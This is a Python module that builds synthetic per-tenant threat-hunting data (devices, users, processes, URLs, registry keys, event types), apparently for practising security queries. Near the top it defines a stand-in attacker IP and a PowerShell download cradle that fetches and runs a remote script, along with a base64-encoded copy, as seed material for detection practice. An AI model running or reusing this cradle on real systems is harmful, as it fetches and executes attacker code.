"""Per-tenant dimensions of the seeded hunting data: devices, users, processes and the value lists the generated
rows pick from (:class:`Dimensions`), and the hashing helpers every seeded value derives from (a tenant always
gets the same data). Used by :mod:`.generator`, :mod:`.stories`, :mod:`.seed_extra` and ``incidents.py``.
"""

from __future__ import annotations

import base64
import datetime as dt
import hashlib
import uuid

UTC = dt.timezone.utc

ATTACKER_IP = "198.51.100.23"
SPRAY_IP = "203.0.113.50"
CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')"
CRADLE_B64 = base64.b64encode(CRADLE.encode("utf-16-le")).decode("ascii")


def seed_of(tenant_id: str) -> int:
    return int(hashlib.sha256(tenant_id.encode()).hexdigest()[:8], 16) % 1_000_000


def _h(*parts: object, n: int = 64) -> str:
    return hashlib.sha256("|".join(map(str, parts)).encode()).hexdigest()[:n]


def _guid(*parts: object) -> str:
    return str(uuid.UUID(_h(*parts, n=32)))


def _q(value: object) -> str:
    """A SQL literal."""
    if value is None:
        return "NULL"
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    if isinstance(value, (int, float)):
        return repr(value)
    return "'" + str(value).replace("'", "''") + "'"


def _list(values: list) -> str:
    return "[" + ", ".join(_q(v) for v in values) + "]"


# --- dimensions -------------------------------------------------------------------------------------------

DEVICES = [
    # name, platform, os version, build, type, group
    ("ws-fin-07", "Windows11", "10.0", 22631, "Workstation", "Finance"),
    ("ws-fin-02", "Windows11", "10.0", 22631, "Workstation", "Finance"),
    ("ws-hr-03", "Windows10", "10.0", 19045, "Workstation", "HR"),
    ("ws-hr-05", "Windows10", "10.0", 19045, "Workstation", "HR"),
    ("ws-dev-12", "Windows11", "10.0", 22631, "Workstation", "Engineering"),
    ("ws-dev-14", "Windows11", "10.0", 22631, "Workstation", "Engineering"),
    ("ws-dev-21", "Windows10", "10.0", 19045, "Workstation", "Engineering"),
    ("ws-sales-04", "Windows11", "10.0", 22631, "Workstation", "Sales"),
    ("ws-sales-09", "Windows10", "10.0", 19045, "Workstation", "Sales"),
    ("ws-exec-01", "Windows11", "10.0", 22631, "Workstation", "Executives"),
    ("ws-it-02", "Windows11", "10.0", 22631, "Workstation", "IT"),
    ("lt-mkt-06", "Windows11", "10.0", 22631, "Workstation", "Marketing"),
    ("lt-mkt-08", "Windows10", "10.0", 19045, "Workstation", "Marketing"),
    ("mac-design-02", "macOS", "14.4", 23, "Workstation", "Marketing"),
    ("mac-design-03", "macOS", "14.4", 23, "Workstation", "Marketing"),
    ("srv-dc-01", "WindowsServer2022", "10.0", 20348, "Server", "Servers"),
    ("srv-dc-02", "WindowsServer2022", "10.0", 20348, "Server", "Servers"),
    ("srv-file-02", "WindowsServer2019", "10.0", 17763, "Server", "Servers"),
    ("srv-sql-01", "WindowsServer2019", "10.0", 17763, "Server", "Servers"),
    ("srv-app-03", "WindowsServer2022", "10.0", 20348, "Server", "Servers"),
    ("srv-exch-01", "WindowsServer2019", "10.0", 17763, "Server", "Servers"),
    ("lnx-web-01", "Linux", "22.04", 0, "Server", "Linux"),
    ("lnx-web-02", "Linux", "22.04", 0, "Server", "Linux"),
    ("lnx-build-01", "Linux", "20.04", 0, "Server", "Linux"),
]

USERS = [
    ("megan.bowen", "Megan Bowen", "Finance", "Accountant"),
    ("adele.vance", "Adele Vance", "Sales", "Account Manager"),
    ("alex.wilber", "Alex Wilber", "Marketing", "Marketing Assistant"),
    ("diego.siciliani", "Diego Siciliani", "HR", "HR Manager"),
    ("grady.archie", "Grady Archie", "Engineering", "Designer"),
    ("isaiah.langer", "Isaiah Langer", "Sales", "Sales Rep"),
    ("johanna.lorenz", "Johanna Lorenz", "Engineering", "Senior Engineer"),
    ("joni.sherman", "Joni Sherman", "Legal", "Paralegal"),
    ("lee.gu", "Lee Gu", "Engineering", "Director"),
    ("lidia.holloway", "Lidia Holloway", "Engineering", "Product Manager"),
    ("lynne.robbins", "Lynne Robbins", "Finance", "Planner"),
    ("miriam.graham", "Miriam Graham", "Executives", "Director"),
    ("nestor.wilke", "Nestor Wilke", "IT", "Director"),
    ("patti.fernandez", "Patti Fernandez", "Executives", "President"),
    ("pradeep.gupta", "Pradeep Gupta", "Finance", "Accountant"),
    ("svc-backup", "Backup service", "IT", "Service account"),
    ("svc-sql", "SQL service", "IT", "Service account"),
    ("adm-nestor", "Nestor Wilke (admin)", "IT", "Administrator"),
]

# file name, folder, command line, company, product, description, size
PROCESSES = [
    ("svchost.exe", r"C:\Windows\System32", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
     "Microsoft Corporation", "Microsoft® Windows® Operating System", "Host Process for Windows Services", 55320),
    ("chrome.exe", r"C:\Program Files\Google\Chrome\Application",
     '"chrome.exe" --type=renderer --lang=en-US', "Google LLC", "Google Chrome", "Google Chrome", 2906648),
    ("msedge.exe", r"C:\Program Files (x86)\Microsoft\Edge\Application",
     '"msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService', "Microsoft Corporation",
     "Microsoft Edge", "Microsoft Edge", 3942808),
    ("OUTLOOK.EXE", r"C:\Program Files\Microsoft Office\root\Office16", '"OUTLOOK.EXE" ',
     "Microsoft Corporation", "Microsoft Outlook", "Microsoft Outlook", 43256680),
    ("Teams.exe", r"C:\Users\Public\AppData\Local\Microsoft\Teams\current", '"Teams.exe" --system-initiated',
     "Microsoft Corporation", "Microsoft Teams", "Microsoft Teams", 129554312),
    ("powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0",
     'powershell.exe -ExecutionPolicy Bypass -File "C:\\ProgramData\\IT\\inventory.ps1"',
     "Microsoft Corporation", "Microsoft® Windows® Operating System", "Windows PowerShell", 450560),
    ("cmd.exe", r"C:\Windows\System32", 'cmd.exe /c "ipconfig /all"', "Microsoft Corporation",
     "Microsoft® Windows® Operating System", "Windows Command Processor", 289792),
    ("conhost.exe", r"C:\Windows\System32", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
     "Microsoft Corporation", "Microsoft® Windows® Operating System", "Console Window Host", 867328),
    ("MsMpEng.exe", r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0",
     '"MsMpEng.exe"', "Microsoft Corporation", "Microsoft® Windows® Operating System",
     "Antimalware Service Executable", 133096),
    ("SenseNdr.exe", r"C:\Program Files\Windows Defender Advanced Threat Protection",
     '"SenseNdr.exe"', "Microsoft Corporation", "Microsoft Defender for Endpoint",
     "Windows Defender Advanced Threat Protection Network Detection and Response", 1321984),
    ("WINWORD.EXE", r"C:\Program Files\Microsoft Office\root\Office16",
     '"WINWORD.EXE" /n "C:\\Users\\Public\\Documents\\Quarterly report.docx"', "Microsoft Corporation",
     "Microsoft Office", "Microsoft Word", 1639816),
    ("EXCEL.EXE", r"C:\Program Files\Microsoft Office\root\Office16",
     '"EXCEL.EXE" "C:\\Users\\Public\\Documents\\Budget.xlsx"', "Microsoft Corporation", "Microsoft Office",
     "Microsoft Excel", 63275912),
    ("explorer.exe", r"C:\Windows", r"C:\Windows\Explorer.EXE", "Microsoft Corporation",
     "Microsoft® Windows® Operating System", "Windows Explorer", 5573656),
    ("rundll32.exe", r"C:\Windows\System32", r"rundll32.exe C:\Windows\System32\shell32.dll,SHCreateLocalServerRunDll",
     "Microsoft Corporation", "Microsoft® Windows® Operating System", "Windows host process (Rundll32)", 71680),
    ("schtasks.exe", r"C:\Windows\System32", r'schtasks.exe /query /fo LIST /v', "Microsoft Corporation",
     "Microsoft® Windows® Operating System", "Task Scheduler Configuration Tool", 235008),
    ("net.exe", r"C:\Windows\System32", "net.exe use", "Microsoft Corporation",
     "Microsoft® Windows® Operating System", "Net Command", 57344),
    ("wmiprvse.exe", r"C:\Windows\System32\wbem", r"C:\Windows\system32\wbem\wmiprvse.exe -Embedding",
     "Microsoft Corporation", "Microsoft® Windows® Operating System", "WMI Provider Host", 523776),
    ("sqlservr.exe", r"C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn",
     '"sqlservr.exe" -sMSSQLSERVER', "Microsoft Corporation", "Microsoft SQL Server", "SQL Server Windows NT",
     475632),
    ("git.exe", r"C:\Program Files\Git\cmd", "git.exe fetch --all", "The Git Development Community", "Git",
     "Git for Windows", 45584),
    ("code.exe", r"C:\Users\Public\AppData\Local\Programs\Microsoft VS Code", '"Code.exe" --type=utility',
     "Microsoft Corporation", "Visual Studio Code", "Visual Studio Code", 158323120),
    ("bash", "/usr/bin", "/bin/bash -c 'apt-get update'", "", "", "", 1396520),
    ("curl", "/usr/bin", "curl -s https://packages.microsoft.com/config/ubuntu/22.04/prod.list", "", "", "",
     260328),
    ("python3", "/usr/bin", "python3 /opt/app/worker.py --queue default", "", "", "", 5904904),
    ("nginx", "/usr/sbin", "nginx: worker process", "", "", "", 1190896),
]

PARENTS = ["explorer.exe", "services.exe", "svchost.exe", "userinit.exe", "wininit.exe", "cmd.exe"]

DOCUMENTS = [
    ("Quarterly report.docx", "docx"), ("Budget 2026.xlsx", "xlsx"), ("Board deck.pptx", "pptx"),
    ("Invoice-3321.pdf", "pdf"), ("notes.txt", "txt"), ("setup.exe", "exe"), ("update.msi", "msi"),
    ("payroll.csv", "csv"), ("contract.pdf", "pdf"), ("logo.png", "png"), ("archive.zip", "zip"),
    ("helper.dll", "dll"),
]

DLLS = ["ntdll.dll", "kernel32.dll", "KernelBase.dll", "user32.dll", "advapi32.dll", "ws2_32.dll",
        "crypt32.dll", "wininet.dll", "amsi.dll", "clr.dll", "System.Management.Automation.ni.dll",
        "mscoree.dll", "vaultcli.dll", "samlib.dll", "dbghelp.dll"]

URLS = ["www.bing.com", "login.microsoftonline.com", "outlook.office365.com", "teams.microsoft.com",
        "github.com", "update.googleapis.com", "settings-win.data.microsoft.com", "ctldl.windowsupdate.com",
        "www.linkedin.com", "contoso.sharepoint.com", "api.github.com", "pypi.org", "files.pythonhosted.org",
        "cdn.jsdelivr.net", "wpad.contoso.local"]

SENDER_DOMAINS = ["fabrikam.com", "northwindtraders.com", "tailspintoys.com", "adatum.com", "litwareinc.com",
                  "wingtiptoys.com", "newsletter.contoso-partners.com", "mail.linkedin.com"]
SUBJECTS = ["Weekly status", "Re: Q3 planning", "Invoice attached", "Lunch on Friday?", "Your order has shipped",
            "Meeting notes", "FW: contract draft", "Action required: password expiry", "Newsletter - November",
            "Team offsite agenda", "Re: budget review", "Shared document: roadmap"]

REG_KEYS = [r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
            r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run",
            r"HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\WinDefend",
            r"HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Microsoft\Windows Defender",
            r"HKEY_CURRENT_USER\Software\Microsoft\Office\16.0\Word\Security",
            r"HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Control\Lsa",
            r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon"]

ACTIONS = {
    "DeviceProcessEvents": ["ProcessCreated"],
    "DeviceNetworkEvents": ["ConnectionSuccess", "ConnectionSuccess", "ConnectionSuccess", "ConnectionFailed",
                            "InboundConnectionAccepted", "ListeningConnectionCreated", "ConnectionRequest"],
    "DeviceFileEvents": ["FileCreated", "FileCreated", "FileModified", "FileModified", "FileDeleted",
                         "FileRenamed"],
    "DeviceEvents": ["PowerShellCommand", "ScheduledTaskCreated", "UsbDriveMounted", "SmartScreenUrlWarning",
                     "AntivirusDetection", "ExploitGuardNetworkProtectionBlocked", "AsrOfficeChildProcessAudited",
                     "LdapSearch", "NamedPipeEvent", "CreateRemoteThreadApiCall", "OpenProcessApiCall",
                     "DnsQueryResponse", "ServiceInstalled", "ProcessCreatedUsingWmiQuery",
                     "BrowserLaunchedToOpenUrl", "FirewallInboundConnectionBlocked", "DpapiAccessed",
                     "GetClipboardData", "ReadProcessMemoryApiCall", "UserAccountCreated"],
    "DeviceLogonEvents": ["LogonSuccess", "LogonSuccess", "LogonSuccess", "LogonFailed", "LogonAttempted"],
    "DeviceRegistryEvents": ["RegistryValueSet", "RegistryValueSet", "RegistryKeyCreated", "RegistryKeyDeleted",
                             "RegistryValueDeleted"],
    "DeviceImageLoadEvents": ["ImageLoaded"],
    "IdentityLogonEvents": ["LogonSuccess", "LogonSuccess", "LogonSuccess", "LogonFailed"],
    "IdentityQueryEvents": ["LDAP query", "DNS query", "SAMR query", "SAM-R query"],
    "IdentityDirectoryEvents": ["Group Membership changed", "Account Password changed", "Account enabled",
                                "Account Disabled changed", "Directory Services replication"],
    "EmailPostDeliveryEvents": ["Phish ZAP", "Malware ZAP", "Manual Remediation"],
    "UrlClickEvents": ["ClickAllowed", "ClickAllowed", "ClickAllowed", "ClickBlocked", "UrlScanInProgress"],
    "CloudAppEvents": ["FileDownloaded", "FileAccessed", "FileUploaded", "MailItemsAccessed", "Send",
                       "New-InboxRule", "Set-Mailbox", "Add member to role.", "Consent to application.",
                       "UserLoggedIn", "MessageSent"],
}


class Dimensions:
    """Per-tenant devices, users and processes, as Python rows and as DuckDB lookup tables."""

    def __init__(self, tenant_id: str, domain: str) -> None:
        self.tenant_id = tenant_id
        self.domain = domain
        short = domain.split(".")[0].lower()
        self.ad_domain = short.upper()
        self.dns_suffix = f"{short}.local"
        self.devices = []
        for k, (name, platform, version, build, dtype, group) in enumerate(DEVICES):
            self.devices.append({
                "idx": k, "DeviceId": _h(tenant_id, "device", name, n=40), "DeviceName": f"{name}.{self.dns_suffix}",
                "Short": name, "OSPlatform": platform, "OSVersion": version, "OSBuild": build,
                "DeviceType": dtype, "MachineGroup": group,
                "LocalIP": f"10.{1 + k // 50}.{10 + (k % 5) * 10}.{20 + k}",
                "PublicIP": f"20.{(seed_of(tenant_id) % 200) + 10}.{k % 7 + 1}.{100 + k}",
                "AadDeviceId": _guid(tenant_id, "aad", name),
            })
        self.users = []
        rid = 1100 + seed_of(tenant_id) % 500
        for k, (name, display, dept, title) in enumerate(USERS):
            self.users.append({
                "idx": k, "AccountName": name, "AccountDomain": self.ad_domain, "DisplayName": display,
                "Upn": f"{name}@{domain}", "ObjectId": _guid(tenant_id, "user", name),
                "Sid": f"S-1-5-21-{1000000000 + seed_of(tenant_id)}-3562211071-1451298153-{rid + k}",
                "Department": dept, "JobTitle": title,
            })
        self.processes = []
        for k, (fname, folder, cmd, company, product, desc, size) in enumerate(PROCESSES):
            self.processes.append({
                "idx": k,
                "FileName": fname,
                "FolderPath": f"{folder}\\{fname}" if "\\" in folder else f"{folder}/{fname}",
                "CommandLine": cmd, "Company": company, "Product": product, "Description": desc,
                "Version": "10.0.22621.1" if company.startswith("Microsoft") else "1.0.0", "FileSize": size,
                "SHA1": _h("sha1", fname, n=40), "SHA256": _h("sha256", fname), "MD5": _h("md5", fname, n=32),
            })

    def device(self, short: str) -> dict:
        return next(d for d in self.devices if d["Short"] == short)

    def user(self, name: str) -> dict:
        return next(u for u in self.users if u["AccountName"] == name)

    def process(self, fname: str) -> dict:
        return next(p for p in self.processes if p["FileName"] == fname)

    def create_lookup_tables(self, con) -> None:
        for name, rows in (("_dev", self.devices), ("_usr", self.users), ("_proc", self.processes)):
            cols = list(rows[0])
            values = ", ".join("(" + ", ".join(_q(r[c]) for c in cols) + ")" for r in rows)
            con.execute(f'CREATE OR REPLACE TABLE {name} ({", ".join(c for c in cols)}) AS '
                        f"SELECT * FROM (VALUES {values})")
